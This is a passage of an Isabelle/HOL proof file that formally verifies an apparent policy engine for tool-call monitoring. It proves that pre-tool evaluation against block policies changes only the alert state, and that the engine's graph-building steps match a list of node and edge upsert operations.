        (evaluate_pre_tool quiet_lib matches_enabled (block_engine\<lparr>en_policies := []\<rparr>)
           bash_event 9 100) = Some (Decision True None None)"
    by (simp add: returned_decision_def en0_def)
  from bash_event_enriched(1) D E show ?thesis by (intro conjI)
qed

subsection \<open>Frame of the pre-tool evaluation\<close>

lemma check_block_policies_frame:
  assumes "check_block_policies pm en ev alert_id now pols = Inr (en', dec)"
  shows "en_event_queue en' = en_event_queue en"
    "en_sequence_tracker en' = en_sequence_tracker en"
    "en_policies en' = en_policies en"
    "db_graph_nodes (en_database en') = db_graph_nodes (en_database en)"
    "db_graph_edges (en_database en') = db_graph_edges (en_database en)"
    "db_events (en_database en') = db_events (en_database en)"
    "db_policies (en_database en') = db_policies (en_database en)"
    "map s_risk_score (db_sessions (en_database en'))
       = map s_risk_score (db_sessions (en_database en))"
    "map s_event_count (db_sessions (en_database en'))
       = map s_event_count (db_sessions (en_database en))"
    "map s_status (db_sessions (en_database en'))
       = map s_status (db_sessions (en_database en))"
    "d_allow dec \<longrightarrow> en' = en"
proof -
  have "check_block_policies pm en ev alert_id now pols = Inr (en, Decision True None None)
     \<or> (\<exists>pol db1. save_alert (en_database en) (blocked_alert pol ev alert_id now) = Inr db1
          \<and> check_block_policies pm en ev alert_id now pols =
             Inr (en\<lparr>en_database := increment_session_alert_count db1 (e_session_id ev),
                     en_broadcast_alerts := en_broadcast_alerts en @ [blocked_alert pol ev alert_id now]\<rparr>,
                  Decision False (Some (''Blocked by policy: '' @ p_name pol)) (Some alert_id)))
     \<or> (\<exists>err. check_block_policies pm en ev alert_id now pols = Inl err)"
  proof (cases "find (\<lambda>pol. p_action pol = BLOCK \<and> pm pol (event_to_dict ev)) pols")
    case None
    thus ?thesis by (simp add: check_block_policies_none)
  next
    case (Some pol)
    show ?thesis
      unfolding check_block_policies_some[where pm = pm and ev = ev and pols = pols
          and pol = pol and en = en and alert_id = alert_id and now = now, OF Some]
        blocked_alert_fields
      by (cases "save_alert (en_database en) (blocked_alert pol ev alert_id now)") auto
  qed
  with assms consider
      (allow) "en' = en" "dec = Decision True None None"
    | (deny) pol db1 where "save_alert (en_database en) (blocked_alert pol ev alert_id now) = Inr db1"
        "en' = en\<lparr>en_database := increment_session_alert_count db1 (e_session_id ev),
                   en_broadcast_alerts := en_broadcast_alerts en @ [blocked_alert pol ev alert_id now]\<rparr>"
        "dec = Decision False (Some (''Blocked by policy: '' @ p_name pol)) (Some alert_id)"
    by auto
  thus "en_event_queue en' = en_event_queue en"
    "en_sequence_tracker en' = en_sequence_tracker en"
    "en_policies en' = en_policies en"
    "db_graph_nodes (en_database en') = db_graph_nodes (en_database en)"
    "db_graph_edges (en_database en') = db_graph_edges (en_database en)"
    "db_events (en_database en') = db_events (en_database en)"
    "db_policies (en_database en') = db_policies (en_database en)"
    "map s_risk_score (db_sessions (en_database en'))
       = map s_risk_score (db_sessions (en_database en))"
    "map s_event_count (db_sessions (en_database en'))
       = map s_event_count (db_sessions (en_database en))"
    "map s_status (db_sessions (en_database en'))
       = map s_status (db_sessions (en_database en))"
    "d_allow dec \<longrightarrow> en' = en"
    by (cases; simp add: increment_session_alert_count_frame save_alert_frame Decision_def)+
qed

lemma evaluate_pre_tool_check:
  assumes "evaluate_pre_tool lib pm en event alert_id now = Inr (en', ev', dec)"
  shows "check_block_policies pm en ev' alert_id now (en_policies en) = Inr (en', dec)"
  using assms by (auto simp: evaluate_pre_tool_def split: sum.splits)

text \<open>
  Claim C2. Whenever \<open>evaluate_pre_tool\<close> returns, the queue of pending events, the
  sequence tracker (its rules, per-session buffers and fired set), the cached policies,
  the stored graph nodes and edges, the stored events and policies, and the risk score,
  event count and status of every session are as before; if the decision is \<open>allow\<close>
  the whole engine is as before. Only the stored alerts, the alert counters and the
  broadcast alerts can differ.
\<close>

theorem evaluate_pre_tool_frame:
  assumes "evaluate_pre_tool lib pm en event alert_id now = Inr (en', ev', dec)"
  shows "en_event_queue en' = en_event_queue en
     \<and> en_sequence_tracker en' = en_sequence_tracker en
     \<and> en_policies en' = en_policies en
     \<and> db_graph_nodes (en_database en') = db_graph_nodes (en_database en)
     \<and> db_graph_edges (en_database en') = db_graph_edges (en_database en)
     \<and> db_events (en_database en') = db_events (en_database en)
     \<and> db_policies (en_database en') = db_policies (en_database en)
     \<and> map s_risk_score (db_sessions (en_database en'))
         = map s_risk_score (db_sessions (en_database en))
     \<and> map s_event_count (db_sessions (en_database en'))
         = map s_event_count (db_sessions (en_database en))
     \<and> map s_status (db_sessions (en_database en'))
         = map s_status (db_sessions (en_database en))
     \<and> (d_allow dec \<longrightarrow> en' = en)"
proof -
  from assms have c: "check_block_policies pm en ev' alert_id now (en_policies en) = Inr (en', dec)"
    by (rule evaluate_pre_tool_check)
  note F = check_block_policies_frame[OF c]
  show ?thesis by (intro conjI F)
qed

text \<open>
  Witness for C2: the denied Bash call leaves queue, tracker, graph, events and risk
  scores of the example engine as they were and stores one alert; the allowed call
  returns the engine it was given.
\<close>

lemma bash_event_denied:
  "evaluate_pre_tool quiet_lib matches_enabled block_engine bash_event 9 100 =
     Inr (blocked_engine, bash_event_classified,
          Decision False (Some ''Blocked by policy: P1'') (Some 9))"
proof -
  let ?al = "blocked_alert block_all_policy bash_event_classified 9 100"
  have sid: "e_session_id bash_event_classified = e_session_id bash_event"
    by (simp add: bash_event_classified_def)
  have sv: "save_alert (en_database block_engine) ?al =
      Inr ((en_database block_engine)\<lparr>db_alerts := db_alerts (en_database block_engine) @ [?al]\<rparr>)"
    by (rule save_alert_new[where pid = "p_id block_all_policy"])
       (use bash_event_enriched(6,7,8) in \<open>simp_all add: blocked_alert_fields sid\<close>)
  have f: "find (\<lambda>pol. p_action pol = BLOCK \<and> matches_enabled pol (event_to_dict bash_event_classified))
             (en_policies block_engine) = Some block_all_policy"
    using bash_event_enriched(4) by (simp add: first_block_match_def)
  have en: "block_engine\<lparr>en_database := increment_session_alert_count
              ((en_database block_engine)\<lparr>db_alerts := db_alerts (en_database block_engine) @ [?al]\<rparr>)
              (e_session_id bash_event_classified),
            en_broadcast_alerts := en_broadcast_alerts block_engine @ [?al]\<rparr> = blocked_engine"
    by (simp add: blocked_engine_def block_engine_def increment_session_alert_count_def
        update_sessions_where_def empty_database_def Session_def bash_event_classified_def
        bash_event_def Event_def)
  have "check_block_policies matches_enabled block_engine bash_event_classified 9 100
          (en_policies block_engine) =
        Inr (blocked_engine, Decision False (Some ''Blocked by policy: P1'') (Some 9))"
    unfolding check_block_policies_some[where pm = matches_enabled and ev = bash_event_classified
        and pols = "en_policies block_engine" and pol = block_all_policy and en = block_engine
        and alert_id = 9 and now = 100, OF f] sv
    by (simp add: en blocked_alert_fields bash_event_enriched(9))
  thus ?thesis
    by (simp add: evaluate_pre_tool_def bash_event_enriched(2,3))
qed

lemma bash_event_allowed:
  "evaluate_pre_tool quiet_lib matches_enabled (block_engine\<lparr>en_policies := []\<rparr>) bash_event 9 100 =
     Inr (block_engine\<lparr>en_policies := []\<rparr>, bash_event_classified, Decision True None None)"
  by (simp add: evaluate_pre_tool_def bash_event_enriched(2,3))

theorem evaluate_pre_tool_frame_witness:
  "evaluate_pre_tool quiet_lib matches_enabled block_engine bash_event 9 100 =
     Inr (blocked_engine, bash_event_classified,
          Decision False (Some ''Blocked by policy: P1'') (Some 9))
   \<and> en_event_queue blocked_engine = en_event_queue block_engine
   \<and> en_sequence_tracker blocked_engine = en_sequence_tracker block_engine
   \<and> db_graph_nodes (en_database blocked_engine) = db_graph_nodes (en_database block_engine)
   \<and> db_graph_edges (en_database blocked_engine) = db_graph_edges (en_database block_engine)
   \<and> db_events (en_database blocked_engine) = db_events (en_database block_engine)
   \<and> map s_risk_score (db_sessions (en_database blocked_engine)) = [0]
   \<and> map s_alert_count (db_sessions (en_database blocked_engine)) = [1]
   \<and> map a_id (db_alerts (en_database blocked_engine)) = [9]
   \<and> evaluate_pre_tool quiet_lib matches_enabled (block_engine\<lparr>en_policies := []\<rparr>) bash_event 9 100 =
       Inr (block_engine\<lparr>en_policies := []\<rparr>, bash_event_classified, Decision True None None)
   \<and> d_allow (Decision True None None)"
proof -
  note G = evaluate_pre_tool_frame[OF bash_event_allowed]
  have 7: "d_allow (Decision True None None)" by (simp add: Decision_def)
  from G 7 have 8: "block_engine\<lparr>en_policies := []\<rparr> = block_engine\<lparr>en_policies := []\<rparr>"
    by (elim conjE) simp
  note F = evaluate_pre_tool_frame[OF bash_event_denied]
  have r: "map s_risk_score (db_sessions (en_database block_engine)) = [0]"
    by (simp add: block_engine_def Session_def)
  have a: "map s_alert_count (db_sessions (en_database blocked_engine)) = [1]"
    "map a_id (db_alerts (en_database blocked_engine)) = [9]"
    by (simp_all add: blocked_engine_def blocked_alert_fields)
  from F have 1: "en_event_queue blocked_engine = en_event_queue block_engine" by (elim conjE)
  from F have 2: "en_sequence_tracker blocked_engine = en_sequence_tracker block_engine" by (elim conjE)
  from F have 3: "db_graph_nodes (en_database blocked_engine) = db_graph_nodes (en_database block_engine)" by (elim conjE)
  from F have 4: "db_graph_edges (en_database blocked_engine) = db_graph_edges (en_database block_engine)" by (elim conjE)
  from F have 5: "db_events (en_database blocked_engine) = db_events (en_database block_engine)" by (elim conjE)
  from F have "map s_risk_score (db_sessions (en_database blocked_engine))
         = map s_risk_score (db_sessions (en_database block_engine))" by (elim conjE)
  with r have 6: "map s_risk_score (db_sessions (en_database blocked_engine)) = [0]" by simp
  from bash_event_denied 1 2 3 4 5 6 a bash_event_allowed 7 show ?thesis by (intro conjI)
qed

subsection \<open>Graph upserts\<close>

lemma find_key_map:
  assumes "\<And>r. key (f r) = key r"
  shows "find (\<lambda>r. key r = k) (map f rows) = map_option f (find (\<lambda>r. key r = k) rows)"
  by (induction rows) (simp_all add: assms)

lemma find_snoc:
  "find P (xs @ [x]) = (case find P xs of Some y \<Rightarrow> Some y | None \<Rightarrow> if P x then Some x else None)"
  by (induction xs) simp_all

lemma node_id_present:
  "(node_id db k \<noteq> None) = (k \<in> set (map node_key (db_graph_nodes db)))"
  by (auto simp: node_id_def find_None_iff)

lemma node_id_cong:
  "db_graph_nodes db' = db_graph_nodes db \<Longrightarrow> node_id db' k = node_id db k"
  by (simp add: node_id_def)

lemma save_graph_node_nodes:
  "db_graph_nodes (fst (save_graph_node db node)) =
     (if node_key node \<in> set (map node_key (db_graph_nodes db)) then
        map (\<lambda>r. if node_key r = node_key node
                 then r\<lparr>n_last_seen := n_last_seen node,
                        n_access_count := n_access_count r + 1,
                        n_alert_count := n_alert_count r + n_alert_count node,
                        n_session_ids := n_session_ids node,
                        n_event_ids := n_event_ids node,
                        n_size := n_size r + 1\<rparr>
                 else r) (db_graph_nodes db)
      else db_graph_nodes db @ [node])"
  by (simp add: save_graph_node_def Let_def)

lemma save_graph_node_frame:
  "db_graph_edges (fst (save_graph_node db node)) = db_graph_edges db"
  "db_sessions (fst (save_graph_node db node)) = db_sessions db"
  "db_events (fst (save_graph_node db node)) = db_events db"
  "db_alerts (fst (save_graph_node db node)) = db_alerts db"
  "db_policies (fst (save_graph_node db node)) = db_policies db"
  by (simp_all add: save_graph_node_def Let_def)

lemma save_graph_node_keys:
  "map node_key (db_graph_nodes (fst (save_graph_node db node))) =
     (if node_key node \<in> set (map node_key (db_graph_nodes db))
      then map node_key (db_graph_nodes db)
      else map node_key (db_graph_nodes db) @ [node_key node])"
proof -
  have "map node_key (map (\<lambda>r. if node_key r = node_key node
                 then r\<lparr>n_last_seen := n_last_seen node,
                        n_access_count := n_access_count r + 1,
                        n_alert_count := n_alert_count r + n_alert_count node,
                        n_session_ids := n_session_ids node,
                        n_event_ids := n_event_ids node,
                        n_size := n_size r + 1\<rparr>
                 else r) rows) = map node_key rows" for rows
    by (induction rows) (simp_all add: node_key_def)
  thus ?thesis by (simp add: save_graph_node_nodes)
qed

lemma save_graph_node_stable:
  assumes "node_id db k = Some i"
  shows "node_id (fst (save_graph_node db node)) k = Some i"
proof (cases "node_key node \<in> set (map node_key (db_graph_nodes db))")
  case True
  let ?f = "\<lambda>r. if node_key r = node_key node
                 then r\<lparr>n_last_seen := n_last_seen node,
                        n_access_count := n_access_count r + 1,
                        n_alert_count := n_alert_count r + n_alert_count node,
                        n_session_ids := n_session_ids node,
                        n_event_ids := n_event_ids node,
                        n_size := n_size r + 1\<rparr>
                 else r"
  have k: "node_key (?f r) = node_key r" for r by (simp add: node_key_def)
  have i: "n_id (?f r) = n_id r" for r by simp
  from assms obtain r where r: "find (\<lambda>r. node_key r = k) (db_graph_nodes db) = Some r"
    and "n_id r = i" by (auto simp: node_id_def)
  have "find (\<lambda>r. node_key r = k) (map ?f (db_graph_nodes db)) = Some (?f r)"
    using find_key_map[where key = node_key and f = ?f, OF k] r by simp
  with True \<open>n_id r = i\<close> show ?thesis
    unfolding node_id_def save_graph_node_nodes by (simp del: map_map)
next
  case False
  from assms obtain r where r: "find (\<lambda>r. node_key r = k) (db_graph_nodes db) = Some r"
    and "n_id r = i" by (auto simp: node_id_def)
  with False show ?thesis
    unfolding node_id_def save_graph_node_nodes by (simp add: find_snoc)
qed

lemma save_graph_node_id:
  "node_id (fst (save_graph_node db node)) (node_key node) = Some (snd (save_graph_node db node))"
proof -
  let ?rows' = "db_graph_nodes (fst (save_graph_node db node))"
  have "node_key node \<in> set (map node_key ?rows')"
    unfolding save_graph_node_keys by simp
  then obtain r where r: "find (\<lambda>r. node_key r = node_key node) ?rows' = Some r"
    by (cases "find (\<lambda>r. node_key r = node_key node) ?rows'") (auto simp: find_None_iff)
  have "snd (save_graph_node db node) =
      (case find (\<lambda>r. node_key r = node_key node) ?rows' of Some r \<Rightarrow> n_id r | None \<Rightarrow> n_id node)"
    by (simp add: save_graph_node_def Let_def)
  with r show ?thesis by (simp add: node_id_def)
qed

lemma save_graph_edge_frame:
  "db_graph_nodes (save_graph_edge db edge) = db_graph_nodes db"
  "db_sessions (save_graph_edge db edge) = db_sessions db"
  "db_events (save_graph_edge db edge) = db_events db"
  "db_alerts (save_graph_edge db edge) = db_alerts db"
  "db_policies (save_graph_edge db edge) = db_policies db"
  by (simp_all add: save_graph_edge_def Let_def)

lemma save_graph_edge_edges:
  "db_graph_edges (save_graph_edge db edge) =
     (if edge_key edge \<in> set (map edge_key (db_graph_edges db)) then
        map (\<lambda>r. if edge_key r = edge_key edge
                 then r\<lparr>ge_last_seen := ge_last_seen edge,
                        ge_count := ge_count r + 1,
                        ge_session_ids := ge_session_ids edge,
                        ge_event_ids := ge_event_ids edge,
                        ge_weight := ge_weight r + 1\<rparr>
                 else r) (db_graph_edges db)
      else db_graph_edges db @ [edge])"
  by (simp add: save_graph_edge_def Let_def)

lemma save_graph_edge_keys:
  "map edge_key (db_graph_edges (save_graph_edge db edge)) =
     (if edge_key edge \<in> set (map edge_key (db_graph_edges db))
      then map edge_key (db_graph_edges db)
      else map edge_key (db_graph_edges db) @ [edge_key edge])"
proof -
  have "map edge_key (map (\<lambda>r. if edge_key r = edge_key edge
                 then r\<lparr>ge_last_seen := ge_last_seen edge,
                        ge_count := ge_count r + 1,
                        ge_session_ids := ge_session_ids edge,
                        ge_event_ids := ge_event_ids edge,
                        ge_weight := ge_weight r + 1\<rparr>
                 else r) rows) = map edge_key rows" for rows
    by (induction rows) (simp_all add: edge_key_def)
  thus ?thesis by (simp add: save_graph_edge_edges)
qed

lemma unique_keys_save_graph_node:
  "unique_keys db \<Longrightarrow> unique_keys (fst (save_graph_node db node))"
  unfolding unique_keys_def save_graph_node_keys save_graph_node_frame by simp

lemma unique_keys_save_graph_edge:
  "unique_keys db \<Longrightarrow> unique_keys (save_graph_edge db edge)"
  unfolding unique_keys_def save_graph_edge_keys save_graph_edge_frame by simp

subsection \<open>The builder performs its list of upserts\<close>

lemma upsert_node_run_op:
  "fst (upsert_node uuid4 now ev t l v db) = run_op uuid4 now ev (NodeOp t l v) db"
  by (simp add: run_op_def)

lemma upsert_node_id:
  "node_id (fst (upsert_node uuid4 now ev t l v db)) (t, v)
     = Some (snd (upsert_node uuid4 now ev t l v db))"
  using save_graph_node_id[of db "GraphNode (uuid4 db) now t l v [e_session_id ev] [e_id ev]"]
  by (simp add: upsert_node_def node_key_def GraphNode_def)

lemma upsert_edge_run_op:
  "node_id db k1 = Some i \<Longrightarrow> node_id db k2 = Some j \<Longrightarrow>
     upsert_edge uuid4 now ev i j rel db = run_op uuid4 now ev (EdgeOp k1 k2 rel) db"
  by (simp add: run_op_def)

lemma run_op_stable:
  assumes "node_id db k = Some i"
  shows "node_id (run_op uuid4 now ev op db) k = Some i"
proof (cases op)
  case (NodeOp t l v)
  thus ?thesis
    using save_graph_node_stable[OF assms] by (simp add: run_op_def upsert_node_def)
next
  case (EdgeOp k1 k2 rel)
  have "node_id (upsert_edge uuid4 now ev a b rel db) k = node_id db k" for a b
    by (rule node_id_cong) (simp add: upsert_edge_def save_graph_edge_frame)
  with EdgeOp assms show ?thesis
    by (simp add: run_op_def split: option.splits)
qed

lemma fold_run_op_stable:
  "node_id db k = Some i \<Longrightarrow> node_id (fold (run_op uuid4 now ev) ops db) k = Some i"
  by (induction ops arbitrary: db) (simp_all add: run_op_stable)

lemma session_and_tool_ops_eq:
  "fst (session_and_tool uuid4 now ev db) = fold (run_op uuid4 now ev) (session_and_tool_ops ev) db"
  "node_id (fst (session_and_tool uuid4 now ev db)) (parent_key ev)
     = Some (snd (session_and_tool uuid4 now ev db))"
proof -
  let ?sid = "e_session_id ev"
  let ?R = "run_op uuid4 now ev"
  define s1 where "s1 = upsert_node uuid4 now ev NT_SESSION (take 16 ?sid) ?sid db"
  have s1_db: "fst s1 = ?R (NodeOp NT_SESSION (take 16 ?sid) ?sid) db"
    unfolding s1_def by (rule upsert_node_run_op)
  have s1_id: "node_id (fst s1) (NT_SESSION, ?sid) = Some (snd s1)"
    unfolding s1_def by (rule upsert_node_id)
  have goal: "fst (session_and_tool uuid4 now ev db) = fold ?R (session_and_tool_ops ev) db
     \<and> node_id (fst (session_and_tool uuid4 now ev db)) (parent_key ev)
         = Some (snd (session_and_tool uuid4 now ev db))"
  proof (cases "\<exists>t. e_tool_name ev = Some t \<and> t \<noteq> []")
    case False
    hence st: "session_and_tool uuid4 now ev db = s1"
      by (auto simp: session_and_tool_def Let_def case_prod_beta s1_def split: option.splits)
    from False have ops: "session_and_tool_ops ev = [NodeOp NT_SESSION (take 16 ?sid) ?sid]"
      by (auto simp: session_and_tool_ops_def split: option.splits)
    from False have pk: "parent_key ev = (NT_SESSION, ?sid)"
      by (auto simp: parent_key_def split: option.splits)
    show ?thesis unfolding st ops pk using s1_db s1_id by simp
  next
    case True
    then obtain t where t: "e_tool_name ev = Some t" "t \<noteq> []" by blast
    define s2 where "s2 = upsert_node uuid4 now ev NT_TOOL t (t @ '':'' @ ?sid) (fst s1)"
    define db3 where "db3 = upsert_edge uuid4 now ev (snd s1) (snd s2) USES (fst s2)"
    have s2_db: "fst s2 = ?R (NodeOp NT_TOOL t (t @ '':'' @ ?sid)) (fst s1)"
      unfolding s2_def by (rule upsert_node_run_op)
    have s2_id: "node_id (fst s2) (NT_TOOL, t @ '':'' @ ?sid) = Some (snd s2)"
      unfolding s2_def by (rule upsert_node_id)
    have s2_sid: "node_id (fst s2) (NT_SESSION, ?sid) = Some (snd s1)"
      unfolding s2_db by (rule run_op_stable[OF s1_id])
    have db3_eq: "db3 = ?R (EdgeOp (NT_SESSION, ?sid) (NT_TOOL, t @ '':'' @ ?sid) USES) (fst s2)"
      unfolding db3_def by (rule upsert_edge_run_op[OF s2_sid s2_id])
    have db3_id: "node_id db3 (NT_TOOL, t @ '':'' @ ?sid) = Some (snd s2)"
      unfolding db3_eq by (rule run_op_stable[OF s2_id])
    have st: "session_and_tool uuid4 now ev db = (db3, snd s2)"
      using t by (simp add: session_and_tool_def Let_def case_prod_beta s1_def s2_def db3_def)
    have ops: "session_and_tool_ops ev =
        [NodeOp NT_SESSION (take 16 ?sid) ?sid, NodeOp NT_TOOL t (t @ '':'' @ ?sid),
         EdgeOp (NT_SESSION, ?sid) (NT_TOOL, t @ '':'' @ ?sid) USES]"
      using t by (simp add: session_and_tool_ops_def)
    have pk: "parent_key ev = (NT_TOOL, t @ '':'' @ ?sid)"
      using t by (simp add: parent_key_def)
    show ?thesis unfolding st ops pk using db3_eq db3_id s2_db s1_db by simp
  qed
  from goal show "fst (session_and_tool uuid4 now ev db) = fold ?R (session_and_tool_ops ev) db" ..
  from goal show "node_id (fst (session_and_tool uuid4 now ev db)) (parent_key ev)
         = Some (snd (session_and_tool uuid4 now ev db))" ..
qed

lemma node_edge_ops_eq:
  assumes "node_id db k = Some i"
  shows "upsert_edge uuid4 now ev i (snd (upsert_node uuid4 now ev t l v db)) rel
           (fst (upsert_node uuid4 now ev t l v db))
         = fold (run_op uuid4 now ev) [NodeOp t l v, EdgeOp k (t, v) rel] db"
proof -
  let ?s = "upsert_node uuid4 now ev t l v db"
  have 1: "fst ?s = run_op uuid4 now ev (NodeOp t l v) db" by (rule upsert_node_run_op)
  have 2: "node_id (fst ?s) (t, v) = Some (snd ?s)" by (rule upsert_node_id)
  have 3: "node_id (fst ?s) k = Some i" unfolding 1 by (rule run_op_stable[OF assms])
  show ?thesis using upsert_edge_run_op[OF 3 2, of uuid4 now ev rel] 1 by simp
qed

lemma file_step_ops_eq:
  assumes "node_id db (parent_key ev) = Some parent_id"
  shows "file_step uuid4 now ev parent_id fp db = fold (run_op uuid4 now ev) (file_ops ev fp) db"
  using node_edge_ops_eq[OF assms]
  by (simp add: file_step_def file_ops_def case_prod_beta)

lemma fold_file_step_ops_eq:
  assumes "node_id db (parent_key ev) = Some parent_id"
  shows "fold (file_step uuid4 now ev parent_id) fps db
           = fold (run_op uuid4 now ev) (concat (map (file_ops ev) fps)) db"
  using assms
proof (induction fps arbitrary: db)
  case Nil
  show ?case by simp
next
  case (Cons fp fps)
  have "node_id (fold (run_op uuid4 now ev) (file_ops ev fp) db) (parent_key ev) = Some parent_id"
    by (rule fold_run_op_stable[OF Cons.prems])
  from Cons.IH[OF this] show ?case
    by (simp add: file_step_ops_eq[OF Cons.prems])
qed

lemma ref_step_ops_eq:
  assumes "node_id db (NT_PROCESS, cmd) = Some cmd_actual_id"
  shows "ref_step uuid4 now ev cmd_actual_id ref db = fold (run_op uuid4 now ev) (ref_ops cmd ref) db"
  using node_edge_ops_eq[OF assms]
  by (simp add: ref_step_def ref_ops_def case_prod_beta)

lemma fold_ref_step_ops_eq:
  assumes "node_id db (NT_PROCESS, cmd) = Some cmd_actual_id"
  shows "fold (ref_step uuid4 now ev cmd_actual_id) refs db
           = fold (run_op uuid4 now ev) (concat (map (ref_ops cmd) refs)) db"
  using assms
proof (induction refs arbitrary: db)
  case Nil
  show ?case by simp
next
  case (Cons ref refs)
  have "node_id (fold (run_op uuid4 now ev) (ref_ops cmd ref) db) (NT_PROCESS, cmd) = Some cmd_actual_id"
    by (rule fold_run_op_stable[OF Cons.prems])
  from Cons.IH[OF this] show ?case
    by (simp add: ref_step_ops_eq[OF Cons.prems])
qed

lemma command_step_ops_eq:
  assumes "node_id db (parent_key ev) = Some parent_id"
  shows "\<exists>cmd_actual_id.
     command_step uuid4 now lib ev parent_id cmd (db, pids)
       = (fold (run_op uuid4 now ev) (command_ops lib ev cmd) db, pids @ [cmd_actual_id])
     \<and> node_id (fold (run_op uuid4 now ev) (command_ops lib ev cmd) db) (NT_PROCESS, cmd)
         = Some cmd_actual_id"
proof -
  let ?R = "run_op uuid4 now ev"
  let ?gk = "(NT_COMMAND, group_value ev cmd)"
  define s1 where "s1 = upsert_node uuid4 now ev NT_COMMAND (base_command cmd) (group_value ev cmd) db"
  define db2 where "db2 = upsert_edge uuid4 now ev parent_id (snd s1) EXECUTES (fst s1)"
  define s3 where "s3 = upsert_node uuid4 now ev NT_PROCESS (short_label cmd) cmd db2"
  define db4 where "db4 = upsert_edge uuid4 now ev (snd s1) (snd s3) EXECUTES (fst s3)"
  define db5 where "db5 = fold (ref_step uuid4 now ev (snd s3)) (extract_command_file_refs lib cmd) db4"
  have cs: "command_step uuid4 now lib ev parent_id cmd (db, pids) = (db5, pids @ [snd s3])"
    by (simp add: command_step_def Let_def case_prod_beta s1_def db2_def s3_def db4_def db5_def)
  have db2_eq: "db2 = fold ?R [NodeOp NT_COMMAND (base_command cmd) (group_value ev cmd),
                              EdgeOp (parent_key ev) ?gk EXECUTES] db"
    unfolding db2_def s1_def by (rule node_edge_ops_eq[OF assms])
  have "node_id (fst s1) ?gk = Some (snd s1)" unfolding s1_def by (rule upsert_node_id)
  hence g2: "node_id db2 ?gk = Some (snd s1)"
    unfolding db2_def by (simp add: node_id_def upsert_edge_def save_graph_edge_frame)
  have db4_eq: "db4 = fold ?R [NodeOp NT_PROCESS (short_label cmd) cmd,
                              EdgeOp ?gk (NT_PROCESS, cmd) EXECUTES] db2"
    unfolding db4_def s3_def by (rule node_edge_ops_eq[OF g2])
  have "node_id (fst s3) (NT_PROCESS, cmd) = Some (snd s3)" unfolding s3_def by (rule upsert_node_id)
  hence p4: "node_id db4 (NT_PROCESS, cmd) = Some (snd s3)"
    unfolding db4_def by (simp add: node_id_def upsert_edge_def save_graph_edge_frame)
  have db5_eq: "db5 = fold ?R (concat (map (ref_ops cmd) (extract_command_file_refs lib cmd))) db4"
    unfolding db5_def by (rule fold_ref_step_ops_eq[OF p4])
  have p5: "node_id db5 (NT_PROCESS, cmd) = Some (snd s3)"
    unfolding db5_eq by (rule fold_run_op_stable[OF p4])
  have all: "db5 = fold ?R (command_ops lib ev cmd) db"
    unfolding db5_eq db4_eq db2_eq command_ops_def by simp
  from cs p5 show ?thesis unfolding all by blast
qed

lemma fold_command_step_ops_eq:
  assumes "node_id db (parent_key ev) = Some parent_id"
    and "list_all2 (\<lambda>c i. node_id db (NT_PROCESS, c) = Some i) done_cmds pids"
  shows "\<exists>pids'.
     fold (command_step uuid4 now lib ev parent_id) cmds (db, pids)
       = (fold (run_op uuid4 now ev) (concat (map (command_ops lib ev) cmds)) db, pids')
     \<and> list_all2 (\<lambda>c i. node_id (fold (run_op uuid4 now ev) (concat (map (command_ops lib ev) cmds)) db)
                           (NT_PROCESS, c) = Some i) (done_cmds @ cmds) pids'"
  using assms
proof (induction cmds arbitrary: db pids done_cmds)
  case Nil
  thus ?case by simp
next
  case (Cons cmd cmds)
  let ?db1 = "fold (run_op uuid4 now ev) (command_ops lib ev cmd) db"
  from command_step_ops_eq[OF Cons.prems(1), of uuid4 now lib cmd pids]
  obtain cid where cs: "command_step uuid4 now lib ev parent_id cmd (db, pids) = (?db1, pids @ [cid])"
    and cid: "node_id ?db1 (NT_PROCESS, cmd) = Some cid" by blast
  have p1: "node_id ?db1 (parent_key ev) = Some parent_id"
    by (rule fold_run_op_stable[OF Cons.prems(1)])
  have "list_all2 (\<lambda>c i. node_id ?db1 (NT_PROCESS, c) = Some i) done_cmds pids"
    using Cons.prems(2) by (rule list_all2_mono) (rule fold_run_op_stable)
  with cid have l1: "list_all2 (\<lambda>c i. node_id ?db1 (NT_PROCESS, c) = Some i)
                        (done_cmds @ [cmd]) (pids @ [cid])"
    by (simp add: list_all2_appendI)
  from Cons.IH[OF p1 l1] cs show ?case by simp
qed

lemma fold_process_edges_ops_eq:
  assumes "list_all2 (\<lambda>c i. node_id db (NT_PROCESS, c) = Some i) cmds pids"
    and "node_id db k = Some target_id"
  shows "fold (\<lambda>pid. upsert_edge uuid4 now ev pid target_id rel) pids db
           = fold (run_op uuid4 now ev) (map (\<lambda>cmd. EdgeOp (NT_PROCESS, cmd) k rel) cmds) db"
  using assms
proof (induction cmds arbitrary: db pids)
  case Nil
  thus ?case by simp
next
  case (Cons cmd cmds)
  from Cons.prems(1) obtain pid pids' where pids: "pids = pid # pids'"
    and pid: "node_id db (NT_PROCESS, cmd) = Some pid"
    and rest: "list_all2 (\<lambda>c i. node_id db (NT_PROCESS, c) = Some i) cmds pids'"
    by (auto simp: list_all2_Cons1)
  let ?db1 = "run_op uuid4 now ev (EdgeOp (NT_PROCESS, cmd) k rel) db"
  have step: "upsert_edge uuid4 now ev pid target_id rel db = ?db1"
    by (rule upsert_edge_run_op[OF pid Cons.prems(2)])
  have l: "list_all2 (\<lambda>c i. node_id ?db1 (NT_PROCESS, c) = Some i) cmds pids'"
    using rest by (rule list_all2_mono) (rule run_op_stable)
  have t: "node_id ?db1 k = Some target_id" by (rule run_op_stable[OF Cons.prems(2)])
  from Cons.IH[OF l t] show ?case by (simp add: step pids)
qed

lemma url_step_ops_eq:
  assumes "node_id db (parent_key ev) = Some parent_id"
    and "list_all2 (\<lambda>c i. node_id db (NT_PROCESS, c) = Some i) (e_commands ev) pids"
  shows "url_step uuid4 now lib ev parent_id pids url db
           = fold (run_op uuid4 now ev) (url_ops lib ev url) db"
proof -
  let ?R = "run_op uuid4 now ev"
  define s1 where "s1 = upsert_node uuid4 now ev NT_URL (url_domain lib url) url db"
  have s1_db: "fst s1 = ?R (NodeOp NT_URL (url_domain lib url) url) db"
    unfolding s1_def by (rule upsert_node_run_op)
  have s1_id: "node_id (fst s1) (NT_URL, url) = Some (snd s1)"
    unfolding s1_def by (rule upsert_node_id)
  have p1: "node_id (fst s1) (parent_key ev) = Some parent_id"
    unfolding s1_db by (rule run_op_stable[OF assms(1)])
  have l1: "list_all2 (\<lambda>c i. node_id (fst s1) (NT_PROCESS, c) = Some i) (e_commands ev) pids"
    unfolding s1_db using assms(2) by (rule list_all2_mono) (rule run_op_stable)
  have len: "(pids \<noteq> []) = (e_commands ev \<noteq> [])"
    using assms(2) by (auto dest: list_all2_lengthD)
  show ?thesis
  proof (cases "e_commands ev = []")
    case True
    with len have "pids = []" by simp
    thus ?thesis
